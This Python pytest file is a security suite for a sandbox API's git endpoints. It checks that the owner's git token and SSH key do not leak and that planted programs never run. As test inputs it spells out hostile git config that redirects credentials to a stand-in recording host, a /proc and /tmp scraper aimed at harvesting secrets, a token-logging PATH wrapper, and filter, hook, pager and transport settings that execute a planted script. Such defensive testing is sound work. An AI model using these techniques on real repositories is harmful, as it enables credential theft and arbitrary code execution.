"""The owner's git credentials never reach sandbox code (issue 17, item 5), and git run by the
API never runs a program the sandbox names (items 5 and 9).

A sandbox controls its repository's config and runs code as its user while git runs: whatever it
does, the token goes only to the server the owner cloned from, no hook or fsmonitor of its runs,
and none of its processes can read the token or the SSH key from /proc or /tmp.

A key with `sandboxes:write` but not `execute` can upload any file the sandbox user may write
(.git/config, .gitattributes, ~/.gitconfig, scripts with mode 0755, programs in a directory on
the image's PATH) and set the sandbox's variables: none of it makes an API git call, even a read
by a `sandboxes:read` key, run a program of its choosing.
"""

import base64
import secrets
from urllib.parse import quote

import pytest
from asgiref.sync import async_to_sync

from apps.agents.models import ChangeSet, ClaudeAsk, ClaudeSession
from apps.keys.scopes import SANDBOXES_READ, SANDBOXES_WRITE
from apps.sandboxes.models import Sandbox
from tests.gitservers import run_in
from tests.waiting import wait_for

POLLER = r"""
import os, stat, time
seen = set()
open("/workspace/poller-ready", "w").close()
deadline = time.time() + 280
while not os.path.exists("/workspace/poller-stop") and time.time() < deadline:
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    seen.add(f.read())
            except OSError:
                pass
    for root, dirs, files in os.walk("/tmp"):
        for name in files:
            try:
                path = os.path.join(root, name)
                if stat.S_ISREG(os.lstat(path).st_mode):  # (a FIFO would block)
                    with open(path, "rb") as f:
                        seen.add(f.read(65536))
            except OSError:
                pass
with open("/workspace/poller-seen", "wb") as out:
    out.write(b"\n--\n".join(seen))
os.rename("/workspace/poller-seen", "/workspace/poller-done")
"""

MARK = "/workspace/marks"
HOOK = f'#!/bin/sh\necho "$0 $*" >> {MARK}\n'


def git_api(client, sandbox_id, action, expect=200, method="post", **body):
    url = f"/api/v1/sandboxes/{sandbox_id}/git/{action}"
    response = client.get(url, body) if method == "get" else client.post(url, body, format="json")
    assert expect is None or response.status_code == expect, response.content
    assert response.status_code < 500, response.content
    return response.json()


def sh(client, sandbox_id, command, cwd="/repo"):
    response = client.post(f"/api/v1/sandboxes/{sandbox_id}/exec", {"command": command, "cwd": cwd}, format="json")
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["exitCode"] == 0, body
    return body["stdout"]


def leaked(text: str, git) -> list[str]:
    basic = base64.b64encode(f"{git.user}:{git.token}".encode()).decode()
    return [secret for secret in (git.token, basic) if secret in text]


def marks(client, sandbox_id) -> str:
    return sh(client, sandbox_id, f"cat {MARK} 2>/dev/null || true", cwd="/")


def branch_of(sandbox_id: str) -> str:
    """Each test's own branch on the shared git servers (their main stays as other tests expect)."""
    return "sec-" + sandbox_id.removeprefix("sbx_").lower()


def commit_on_server(git, branch: str, name: str) -> str:
    script = (
        f"set -e; w=$(mktemp -d); git clone -q -b {branch} /srv/git/project.git $w; cd $w; "
        "git config user.email server@example.test; git config user.name Server; "
        f"printf x > {name}; git add -A; git commit -qm 'server change'; git push -q origin {branch}"
    )
    run_in(git.http, script)
    return git.http_ref(branch)


@pytest.fixture
def cloned(api_client, create_sandbox, git, recording_git_server):
    """A sandbox with the project cloned at /repo, the token kept (persist) for later pushes, on
    a branch of its own that tracks the same branch on the server."""
    recording_git_server.clear()
    sandbox_id = create_sandbox(template="python-3", git={"url": git.http_url, "auth": git.token_auth(persist=True)})[
        "id"
    ]
    sh(api_client, sandbox_id, "git config user.email a@example.test && git config user.name A")
    sh(api_client, sandbox_id, f"git checkout -q -b {branch_of(sandbox_id)}")
    git_api(api_client, sandbox_id, "push", setUpstream=True)
    return sandbox_id


def commit(client, sandbox_id, name: str) -> str:
    """A new commit (the server is shared by the tests: the content is new each time)."""
    sh(client, sandbox_id, f"echo {secrets.token_hex(8)} > {name}.txt && git add -A && git commit -qm {name}")
    return sh(client, sandbox_id, "git rev-parse HEAD").strip()


@pytest.mark.parametrize(
    "attack",
    [
        "git remote set-url origin http://git-rec:8080/project.git",
        "git config url.http://git-rec:8080/.insteadOf http://git-http:8080/",
        "git config http.proxy http://git-rec:8080",
        "printf '[url \"http://git-rec:8080/\"]\\n\\tinsteadOf = http://git-http:8080/\\n' > /workspace/evil.cfg"
        " && git config include.path /workspace/evil.cfg",
        "git config credential.helper 'store --file /workspace/stolen'"
        " && git config credential.http://git-rec:8080.username x",
    ],
    ids=["origin", "insteadOf", "http.proxy", "include.path", "credential.helper"],
)
def test_a_rewritten_config_never_sends_the_token_elsewhere(
    api_client, cloned, git, recording_git_server, attack
):  # fmt: skip
    branch = branch_of(cloned)
    sh(api_client, cloned, attack)
    sha = commit(api_client, cloned, "pushed")
    pushed = git_api(api_client, cloned, "push")  # the kept token, to the URL the owner gave
    assert pushed["commit"] == sha and git.http_ref(branch) == sha
    # and once more with the token given in the request
    sha = commit(api_client, cloned, "again")
    git_api(api_client, cloned, "push", auth=git.token_auth())
    assert git.http_ref(branch) == sha

    server_sha = commit_on_server(git, branch, "server.md")
    pulled = git_api(api_client, cloned, "pull")
    assert pulled["commit"] != sha and pulled["updated"] is True
    assert sh(api_client, cloned, f"git merge-base --is-ancestor {server_sha} HEAD && echo yes") == "yes\n"
    git_api(api_client, cloned, "pull", auth=git.token_auth())

    recorded = recording_git_server.requests()
    assert not leaked(recorded, git), recorded
    assert "stolen" not in sh(api_client, cloned, "ls /workspace")


def test_hooks_and_fsmonitor_never_run(api_client, cloned, git):
    script = f"printf '%s' '{HOOK}' > /workspace/hook.sh && chmod +x /workspace/hook.sh"
    hooks = "pre-commit post-commit pre-push post-merge post-checkout reference-transaction pre-auto-gc"
    sh(api_client, cloned, f"{script} && mkdir -p /workspace/hooks && for h in {hooks}; do "
       "cp /workspace/hook.sh .git/hooks/$h; cp /workspace/hook.sh /workspace/hooks/$h; done")  # fmt: skip
    # core.hooksPath and core.fsmonitor, also through an included file
    sh(api_client, cloned, "git config core.fsmonitor /workspace/hook.sh && "
       "printf '[core]\\n\\thooksPath = /workspace/hooks\\n\\tfsmonitor = /workspace/hook.sh\\n' > /workspace/inc.cfg"
       " && git config include.path /workspace/inc.cfg")  # fmt: skip
    sh(api_client, cloned, "echo change >> hooks.txt")  # (not test.js: other tests run it)
    git_api(api_client, cloned, "status", method="get")
    git_api(api_client, cloned, "diff", method="get")
    git_api(api_client, cloned, "commit", message="change", all=True)
    git_api(api_client, cloned, "push")
    commit_on_server(git, branch_of(cloned), "hooks.md")
    git_api(api_client, cloned, "pull")
    git_api(api_client, cloned, "checkout", branch="other", create=True)
    git_api(api_client, cloned, "branches", method="get")
    git_api(api_client, cloned, "log", method="get")
    assert marks(api_client, cloned) == ""
    # (the hooks do run when the sandbox runs git itself: the test's hook works)
    sh(api_client, cloned, "git commit -q --allow-empty -m by-the-sandbox")
    assert "post-commit" in marks(api_client, cloned)


def _poll_during(client, sandbox_id, action) -> bytes:
    """Runs a /proc and /tmp poller as the sandbox user while `action` runs; what it could read.
    (A background command: the test needs transactional_db.)"""
    started = client.post(
        f"/api/v1/sandboxes/{sandbox_id}/exec",
        {"command": ["python3", "-c", POLLER], "background": True, "cwd": "/workspace", "timeout": 300},
        format="json",
    )
    assert started.status_code == 202, started.content
    files = f"/api/v1/sandboxes/{sandbox_id}/files"
    wait_for(lambda: client.get(f"{files}/poller-ready").status_code == 200, what="the poller to start")
    action()
    client.post(f"{files}?path=poller-stop", b"stop", content_type="application/octet-stream")

    def done():
        response = client.get(f"{files}/poller-done")
        return response if response.status_code == 200 else None

    return _content(wait_for(done, what="the poller to finish"))


def _content(response) -> bytes:
    async def collect():
        return b"".join([chunk async for chunk in response.streaming_content])

    return async_to_sync(collect)()


def test_sandbox_processes_cannot_read_the_token_while_git_runs(transactional_db, api_client, cloned, git):
    def pushes():
        for n in range(3):
            commit(api_client, cloned, f"poll{n}")
            git_api(api_client, cloned, "push", auth=git.token_auth())
            git_api(api_client, cloned, "pull", branch=branch_of(cloned))

    seen = _poll_during(api_client, cloned, pushes).decode(errors="replace")
    assert "push" in seen  # it did watch git's processes (their command lines are public)
    assert not leaked(seen, git)


def test_sandbox_processes_cannot_read_the_ssh_key(transactional_db, api_client, create_sandbox, git):
    sandbox_id = create_sandbox(template="python-3", git={"url": git.ssh_url, "auth": git.ssh_auth(persist=True)})["id"]
    sh(api_client, sandbox_id, "git config user.email a@example.test && git config user.name A")
    # an sshCommand of the sandbox's is never used for the owner's key
    sh(api_client, sandbox_id, f"printf '%s' '{HOOK}' > /workspace/ssh.sh && chmod +x /workspace/ssh.sh && "
       "git config core.sshCommand /workspace/ssh.sh")  # fmt: skip

    def pushes():
        for n in range(3):
            sha = commit(api_client, sandbox_id, f"ssh{n}")
            git_api(api_client, sandbox_id, "push", branch=branch_of(sandbox_id))
            assert git.ssh_ref(branch_of(sandbox_id)) == sha

    seen = _poll_during(api_client, sandbox_id, pushes).decode(errors="replace")
    assert "push" in seen
    key_body = git.private_key.splitlines()[1]
    assert "PRIVATE KEY" not in seen and key_body not in seen
    assert marks(api_client, sandbox_id) == ""


def test_credentials_go_only_to_the_url_the_repository_was_cloned_from(api_client, create_sandbox, git):
    sandbox_id = create_sandbox(template="python-3")["id"]
    # a repository the sandbox made itself, its remote pointing wherever it likes
    sh(api_client, sandbox_id, "git init -q -b main r && cd r && git remote add origin http://git-rec:8080/p.git"
       " && git -c user.name=A -c user.email=a@e.test commit -q --allow-empty -m x", cwd="/workspace")  # fmt: skip
    refused = git_api(api_client, sandbox_id, "push", expect=400, path="/workspace/r", auth=git.token_auth())
    assert refused["error"]["code"] == "invalid_git_auth"
    # and another remote of a cloned repository
    git_api(api_client, sandbox_id, "clone", url=git.http_url, auth=git.token_auth(), path="/workspace/c")
    sh(api_client, sandbox_id, "git remote add other http://git-rec:8080/project.git", cwd="/workspace/c")
    refused = git_api(api_client, sandbox_id, "pull", expect=400, path="/workspace/c", remote="other",
                      auth=git.token_auth())  # fmt: skip
    assert refused["error"]["code"] == "invalid_git_auth"


# ---- programs named by the repository, the sandbox's global config, its variables and PATH ----

# Proof of a run: a line in /tmp/pwned (any user may write there, the runner's uid too). As a
# filter it passes the content through; as textconv it prints the file.
PWN = """#!/bin/sh
echo "$*" >> /tmp/pwned
case $1 in filter) exec cat ;; textconv) exec cat "$2" ;; esac
exit 0
"""
FILTER = '[filter "evil"]\n\tclean = /workspace/pwn.sh filter clean\n\tsmudge = /workspace/pwn.sh filter smudge\n'
# Vector -> files to plant: "config" is appended to /repo/.git/config, other keys are paths.
REPOSITORY_VECTORS = {
    "filter-gitattributes": {"/repo/.gitattributes": "*.txt filter=evil\n", "config": FILTER},
    "filter-info-attributes": {"/repo/.git/info/attributes": "*.txt filter=evil\n", "config": FILTER},
    "filter-process": {
        "/repo/.git/info/attributes": "*.txt filter=evil\n",
        "config": '[filter "evil"]\n\tprocess = /workspace/pwn.sh process\n',
    },
    "include-path": {
        "/repo/.git/info/attributes": "*.txt filter=evil\n",
        "/workspace/inc.cfg": FILTER,
        "config": "[include]\n\tpath = /workspace/inc.cfg\n",
    },
    "includeIf": {
        "/repo/.gitattributes": "*.txt filter=evil\n",
        "/workspace/inc.cfg": FILTER,
        "config": '[includeIf "gitdir:/repo/"]\n\tpath = /workspace/inc.cfg\n',
    },
    "textconv-diff-command": {
        "/repo/.git/info/attributes": "*.txt diff=evil\n",
        "config": '[diff "evil"]\n\ttextconv = /workspace/pwn.sh textconv\n\tcommand = /workspace/pwn.sh command\n'
        "[diff]\n\texternal = /workspace/pwn.sh external\n",
    },
    "gpg": {
        "config": "[commit]\n\tgpgSign = true\n[tag]\n\tgpgSign = true\n[push]\n\tgpgSign = true\n"
        "[log]\n\tshowSignature = true\n[merge]\n\tverifySignatures = true\n"
        "[gpg]\n\tprogram = /workspace/pwn.sh gpg\n"
        '[gpg "ssh"]\n\tprogram = /workspace/pwn.sh ssh-keygen\n\tdefaultKeyCommand = /workspace/pwn.sh ssh-key\n'
        '[gpg "x509"]\n\tprogram = /workspace/pwn.sh gpgsm\n',
    },
    "pager-editor": {
        "config": "[core]\n\tpager = /workspace/pwn.sh pager\n\teditor = /workspace/pwn.sh editor\n"
        "[pager]\n\tstatus = /workspace/pwn.sh pager\n\tdiff = /workspace/pwn.sh pager\n"
        "\tlog = /workspace/pwn.sh pager\n"
        "[sequence]\n\teditor = /workspace/pwn.sh editor\n",
    },
    "alternateRefsCommand": {
        "/workspace/alt/objects/info/keep": "keep\n",
        "/repo/.git/objects/info/alternates": "/workspace/alt/objects\n",
        "config": "[core]\n\talternateRefsCommand = /workspace/pwn.sh alternates\n",
    },
}


@pytest.fixture
def writer(owner, client_for):
    """A key that may change a sandbox's files and variables but not run anything in it."""
    return client_for(owner, [SANDBOXES_READ, SANDBOXES_WRITE])


@pytest.fixture
def reader(owner, client_for):
    return client_for(owner, [SANDBOXES_READ])


def upload(client, sandbox_id, path: str, data: str, mode: str | None = None) -> None:
    url = f"/api/v1/sandboxes/{sandbox_id}/files?path={quote(path)}" + (f"&mode={mode}" if mode else "")
    response = client.post(url, data.encode(), content_type="application/octet-stream")
    assert response.status_code == 201, response.content


def download(client, sandbox_id, path: str) -> str:
    response = client.get(f"/api/v1/sandboxes/{sandbox_id}/files/{quote(path)}")  # files//abs for /abs
    assert response.status_code == 200, response.content
    return _content(response).decode()


def plant(client, sandbox_id, files: dict, repo: str = "/repo") -> None:
    """What a write key can do: upload the program and the files that name it."""
    upload(client, sandbox_id, "/workspace/pwn.sh", PWN, mode="755")
    for path, text in files.items():
        if path == "config":
            config = download(client, sandbox_id, f"{repo}/.git/config")
            upload(client, sandbox_id, f"{repo}/.git/config", config + text)
        else:
            upload(client, sandbox_id, path, text)


def pwned(client, sandbox_id) -> str:
    return sh(client, sandbox_id, "cat /tmp/pwned 2>/dev/null || true", cwd="/")


def server_run(git, branch: str, script: str) -> str:
    """A commit made on the server's branch by `script` (run in a clone of it)."""
    run_in(git.http, f"set -e; w=$(mktemp -d); git clone -q -b {branch} /srv/git/project.git $w; cd $w; "
           "git config user.email server@example.test; git config user.name Server; "
           f"{script}; git add -A; git commit -qm 'server change'; git push -q origin {branch}")  # fmt: skip
    return git.http_ref(branch)


@pytest.mark.parametrize("vector", list(REPOSITORY_VECTORS))
def test_repository_config_never_runs_a_program(api_client, writer, reader, cloned, git, vector):
    """Every git call of the API, reads by a read-only key included, with a program planted by a
    write key through the repository's config, attributes and includes: it never runs, and the
    calls work."""
    branch = branch_of(cloned)
    plant(writer, cloned, REPOSITORY_VECTORS[vector])
    upload(writer, cloned, "/repo/a.txt", "one\n")
    git_api(writer, cloned, "commit", message="a", all=True)
    upload(writer, cloned, "/repo/a.txt", "one\ntwo\n")

    status = git_api(reader, cloned, "status", method="get")
    assert {"path": "a.txt", "status": "M"} in status["unstaged"]
    diff = git_api(reader, cloned, "diff", method="get")
    assert "+two" in diff["diff"] and {f["path"] for f in diff["files"]} >= {"a.txt"}
    git_api(reader, cloned, "diff", method="get", staged="true")
    git_api(reader, cloned, "log", method="get")
    git_api(reader, cloned, "branches", method="get")

    git_api(writer, cloned, "commit", message="two", all=True)
    git_api(writer, cloned, "checkout", branch=f"{branch}-other", create=True)
    upload(writer, cloned, "/repo/a.txt", "other\n")
    git_api(writer, cloned, "commit", message="other", all=True)
    git_api(writer, cloned, "checkout", branch=branch)  # rewrites a.txt
    assert download(reader, cloned, "/repo/a.txt") == "one\ntwo\n"
    git_api(writer, cloned, "push")

    server_run(git, branch, "echo server > server.txt")
    upload(writer, cloned, "/repo/local.txt", "local\n")
    local = git_api(writer, cloned, "commit", message="local", all=True)["commit"]
    pulled = git_api(writer, cloned, "pull")  # a merge commit: both sides have new commits
    assert pulled["updated"] is True
    assert sh(api_client, cloned, "git rev-parse HEAD^1 && cat server.txt") == f"{local}\nserver\n"
    git_api(writer, cloned, "push")
    assert git.http_ref(branch) == pulled["commit"]
    assert git_api(reader, cloned, "status", method="get")["clean"] is True
    assert pwned(api_client, cloned) == ""


def test_a_custom_merge_driver_never_runs(api_client, writer, reader, cloned, git):
    """A merge that needs the repository's merge driver is refused (nothing changes) rather than
    run it."""
    branch = branch_of(cloned)
    plant(writer, cloned, {"/repo/.git/info/attributes": "m.txt merge=evil\n",
                           "config": '[merge "evil"]\n\tdriver = /workspace/pwn.sh merge %O %A %B\n'})  # fmt: skip
    upload(writer, cloned, "/repo/m.txt", "1\n2\n3\n4\n5\n6\n")
    git_api(writer, cloned, "commit", message="m", all=True)
    git_api(writer, cloned, "push")
    server_run(git, branch, "sed -i 1s/1/one/ m.txt")
    upload(writer, cloned, "/repo/m.txt", "1\n2\n3\n4\n5\nsix\n")
    before = git_api(writer, cloned, "commit", message="six", all=True)["commit"]

    refused = git_api(writer, cloned, "pull", expect=422)
    assert refused["error"]["code"] == "git_error" and "m.txt" in refused["error"]["message"]
    status = git_api(reader, cloned, "status", method="get")
    assert status["commit"] == before and status["clean"] is True
    assert pwned(api_client, cloned) == ""
    # the fetched commits are there for the sandbox's own git to merge
    assert sh(api_client, cloned, f"git rev-parse origin/{branch}").strip() == git.http_ref(branch)


def test_a_required_filter_that_cannot_run_fails_the_call(api_client, writer, reader, cloned):
    """A filter the repository marks required (as git-lfs does) is not run either: a call that
    needs it fails cleanly instead of storing unfiltered content."""
    config = FILTER.replace("\tclean", "\trequired = true\n\tclean")
    plant(writer, cloned, {"/repo/.git/info/attributes": "*.txt filter=evil\n", "config": config})
    upload(writer, cloned, "/repo/a.txt", "one\n")
    failed = git_api(writer, cloned, "commit", expect=422, message="a", all=True)
    assert failed["error"]["code"] == "git_error" and "filter" in failed["error"]["message"]
    git_api(reader, cloned, "status", method="get")
    assert pwned(api_client, cloned) == ""


TRANSPORT_VECTORS = {
    "sshCommand": ("ssh://git@git-ssh/home/git/project.git", "[core]\n\tsshCommand = /workspace/pwn.sh ssh\n"),
    "gitProxy": ("git://git-http/project.git", "[core]\n\tgitProxy = /workspace/pwn.sh\n"),  # (no shell: no args)
    "insteadOf-helper": (
        "http://git-http:8080/project.git",
        '[url "evil::x"]\n\tinsteadOf = http://git-http:8080/\n[url "evil::y"]\n\tpushInsteadOf = http://git-http:8080/\n',
    ),
    "vcs": ("http://git-http:8080/project.git", '[remote "origin"]\n\tvcs = evil\n'),
    "local-uploadpack": (
        "/workspace/other.git",
        '[remote "origin"]\n\tuploadpack = /workspace/pwn.sh upload-pack\n'
        "\treceivepack = /workspace/pwn.sh receive-pack\n",
    ),
    "askpass-credential-helper": (
        "http://git-http:8080/project.git",
        "[core]\n\taskPass = /workspace/pwn.sh askpass\n[credential]\n\thelper = /workspace/pwn.sh helper\n"
        '[credential "http://git-http:8080"]\n\thelper = /workspace/pwn.sh helper-url\n',
    ),
}


@pytest.mark.parametrize("vector", list(TRANSPORT_VECTORS))
def test_a_pull_or_push_without_credentials_never_runs_a_program(api_client, writer, create_sandbox, git, vector):
    """A repository the API has no credentials for is pulled and pushed by the sandbox user: what
    its config names for the transport (ssh, proxy, remote helper, upload-pack...) never runs."""
    sandbox_id = create_sandbox(template="python-3")["id"]
    url, config = TRANSPORT_VECTORS[vector]
    sh(api_client, sandbox_id, "git init -q --bare other.git && git init -q -b main r && cd r && "
       "git -c user.name=A -c user.email=a@e.test commit -q --allow-empty -m x && "
       f"git remote add origin {url} && git config branch.main.remote origin && "
       "git config branch.main.merge refs/heads/main", cwd="/workspace")  # fmt: skip
    # the remote helper a rewritten URL or remote.*.vcs would start, on the image's PATH
    upload(writer, sandbox_id, "/opt/venv/bin/git-remote-evil", PWN, mode="755")
    plant(writer, sandbox_id, {"config": config}, repo="/workspace/r")
    for action in ("pull", "push"):
        response = git_api(writer, sandbox_id, action, expect=None, path="r")
        assert response.get("error", {}).get("code") in (None, "git_error", "git_auth_failed"), response
    assert pwned(api_client, sandbox_id) == ""


def test_a_pull_and_push_without_credentials_still_work(api_client, writer, create_sandbox, git):
    """The sandbox's own remote (its credentials in the URL, the API has none): the pull's merge,
    done without git merge's child process, is a fast-forward or a merge commit as git's would be."""
    sandbox_id = create_sandbox(template="python-3")["id"]
    branch = branch_of(sandbox_id)
    own = git.http_url.replace("http://", f"http://{git.user}:{git.token}@")
    sh(api_client, sandbox_id, f"git clone -q {own} r && cd r && git config user.email a@e.test && "
       f"git config user.name A && git checkout -q -b {branch} && git push -q -u origin {branch}",
       cwd="/workspace")  # fmt: skip
    server = server_run(git, branch, "echo one > one.txt")
    pulled = git_api(writer, sandbox_id, "pull", path="r")
    assert pulled["updated"] is True and pulled["commit"] == server  # a fast-forward
    server = server_run(git, branch, "echo two > two.txt")
    sh(api_client, sandbox_id, "echo l > l.txt && git add l.txt && git commit -qm local", cwd="/workspace/r")
    local = sh(api_client, sandbox_id, "git rev-parse HEAD", cwd="/workspace/r").strip()
    merged = git_api(writer, sandbox_id, "pull", path="r")["commit"]
    parents = sh(api_client, sandbox_id, "git log -1 --format='%P%n%s'", cwd="/workspace/r").split("\n")
    assert parents[0] == f"{local} {server}"
    assert parents[1] == f"Merge branch '{branch}' of http://git-http:8080/project into {branch}"  # as git pull
    assert git_api(writer, sandbox_id, "push", path="r")["commit"] == merged == git.http_ref(branch)
    assert git_api(writer, sandbox_id, "pull", path="r", branch=branch)["updated"] is False


def test_the_sandbox_global_config_is_never_read(api_client, writer, reader, cloned, git):
    """~/.gitconfig and ~/.config/git/* are the sandbox's: clones, pulls and reads ignore them
    (an upload-pack hook, a filter bound by the global attributes)."""
    home = sh(api_client, cloned, "echo $HOME", cwd="/").strip()
    upload(writer, cloned, "/workspace/pwn.sh", PWN, mode="755")
    upload(writer, cloned, f"{home}/.gitconfig",
           f"[uploadpack]\n\tpackObjectsHook = /workspace/pwn.sh pack-objects-hook\n{FILTER}"
           "[core]\n\tpager = /workspace/pwn.sh pager\n")  # fmt: skip
    upload(writer, cloned, f"{home}/.config/git/attributes", "* filter=evil\n")
    upload(writer, cloned, f"{home}/.config/git/config", FILTER)
    git_api(writer, cloned, "clone", url=git.http_url, auth=git.token_auth(), path="with-auth")
    git_api(writer, cloned, "clone", url=git.http_url, auth=git.token_auth(), path="shallow", depth=1)
    server_run(git, branch_of(cloned), "echo server > server.txt")
    git_api(writer, cloned, "pull")
    upload(writer, cloned, "/repo/test.js", "changed\n")
    git_api(reader, cloned, "status", method="get")
    git_api(reader, cloned, "diff", method="get")
    git_api(writer, cloned, "commit", message="c", all=True)
    assert pwned(api_client, cloned) == ""


SPY = """#!/bin/sh
[ -z "$GIT_CONFIG_COUNT$VBX_GIT_TOKEN" ] || echo "$0 $* $VBX_GIT_TOKEN" >> /tmp/pwned
exec /usr/bin/${0##*/} "$@"
"""


def test_programs_on_the_sandbox_path_never_run(api_client, writer, reader, cloned, git):
    """A `git` or `sh` a write key puts first on the PATH (the image's /opt/venv/bin is the
    sandbox user's, and the sandbox's variables may name another): the API's git, and the
    credentialed runner, use the system's."""
    env = writer.patch(f"/api/v1/sandboxes/{cloned}/env", {"PATH": "/workspace/bin:/usr/bin:/bin"}, format="json")
    assert env.status_code == 200, env.content
    for path in ("/workspace/bin/git", "/workspace/bin/sh", "/opt/venv/bin/git", "/opt/venv/bin/sh"):
        upload(writer, cloned, path, SPY, mode="755")
    git_api(reader, cloned, "status", method="get")
    git_api(reader, cloned, "diff", method="get")
    sha = commit(api_client, cloned, "spied")
    git_api(writer, cloned, "push")
    assert git.http_ref(branch_of(cloned)) == sha
    seen = pwned(api_client, cloned)
    assert seen == "" and git.token not in seen


def test_reading_claude_changes_never_runs_a_program(api_client, writer, reader, cloned, api_key):
    """GET claude/changes (sandboxes:read) diffs a session's commits in its worktree: the
    repository's textconv or external diff never runs."""
    sh(api_client, cloned, "echo one > a.txt && git add a.txt && git commit -qm base")
    base = sh(api_client, cloned, "git rev-parse HEAD").strip()
    sh(api_client, cloned, "echo two >> a.txt && git commit -qam claude")
    head = sh(api_client, cloned, "git rev-parse HEAD").strip()
    plant(writer, cloned, REPOSITORY_VECTORS["textconv-diff-command"])
    sandbox = Sandbox.objects.get(pk=cloned)
    session = ClaudeSession.objects.create(id="s-" + secrets.token_hex(6), sandbox=sandbox, cwd="/repo")
    ask = ClaudeAsk.objects.create(session=session, sandbox=sandbox, prompt="p", status=ClaudeAsk.Status.COMPLETED)
    files = [{"path": "a.txt", "status": "modified", "additions": 1, "deletions": 0}]
    ChangeSet.objects.create(session=session, ask=ask, base_commit=base, head_commit=head, files=files)
    response = reader.get(f"/api/v1/sandboxes/{cloned}/claude/changes")
    assert response.status_code == 200, response.content
    assert "+two" in response.json()["data"][0]["diff"]
    assert pwned(api_client, cloned) == ""


def test_a_path_remote_works_and_its_repository_runs_nothing(api_client, writer, create_sandbox, git):
    """A remote that is a path in the sandbox (`git remote add backup /workspace/backup.git`) can be
    pushed to and pulled from, and what the receiving repository names never runs: its hooks, a
    core.hooksPath of its own, an updateInstead checkout through a filter, or the pushing
    repository's remote.*.receivepack / uploadpack."""
    sandbox_id = create_sandbox(template="python-3")["id"]
    sh(api_client, sandbox_id, "git init -q -b main r && cd r && git -c user.name=A -c user.email=a@e.test "
       "commit -q --allow-empty -m one && git init -q -b main ../live && git -C ../live -c user.name=A "
       "-c user.email=a@e.test commit -q --allow-empty -m base && git init -q --bare ../backup.git && "
       "git remote add backup /workspace/backup.git && git remote add live /workspace/live",
       cwd="/workspace")  # fmt: skip
    hooks = "pre-receive update post-receive post-update push-to-checkout reference-transaction"
    own = '[remote "backup"]\n\treceivepack = /workspace/pwn.sh receive-pack\n\tuploadpack = /workspace/pwn.sh up\n'
    plant(writer, sandbox_id, {"config": own}, repo="/workspace/r")
    for hook in hooks.split():
        upload(writer, sandbox_id, f"/workspace/backup.git/hooks/{hook}", PWN, mode="755")
        upload(writer, sandbox_id, f"/workspace/h/{hook}", PWN, mode="755")
    config = download(writer, sandbox_id, "/workspace/live/.git/config")
    hostile = "[receive]\n\tdenyCurrentBranch = updateInstead\n[core]\n\thooksPath = /workspace/h\n" + FILTER
    upload(writer, sandbox_id, "/workspace/live/.git/config", config + hostile)
    upload(writer, sandbox_id, "/workspace/live/.git/info/attributes", "* filter=evil\n")

    pushed = git_api(writer, sandbox_id, "push", path="/workspace/r", remote="backup", branch="main")
    assert pushed["remote"] == "backup"
    assert sh(api_client, sandbox_id, "git --git-dir=backup.git log --format=%s main", cwd="/workspace") == "one\n"
    sh(api_client, sandbox_id, "cd r && git -c user.name=A -c user.email=a@e.test commit -q --allow-empty -m two && "
       "git push -q --receive-pack='git -c core.hooksPath=/dev/null receive-pack' backup main && "
       "git reset -q --hard HEAD~1", cwd="/workspace")  # fmt: skip
    pulled = git_api(writer, sandbox_id, "pull", path="/workspace/r", remote="backup", branch="main")
    assert pulled["updated"] is True
    # a checked-out branch of a repository with updateInstead is refused, not checked out
    refused = git_api(writer, sandbox_id, "push", expect=422, path="/workspace/r", remote="live", branch="main")
    assert refused["error"]["code"] == "git_error"
    assert pwned(api_client, sandbox_id) == ""
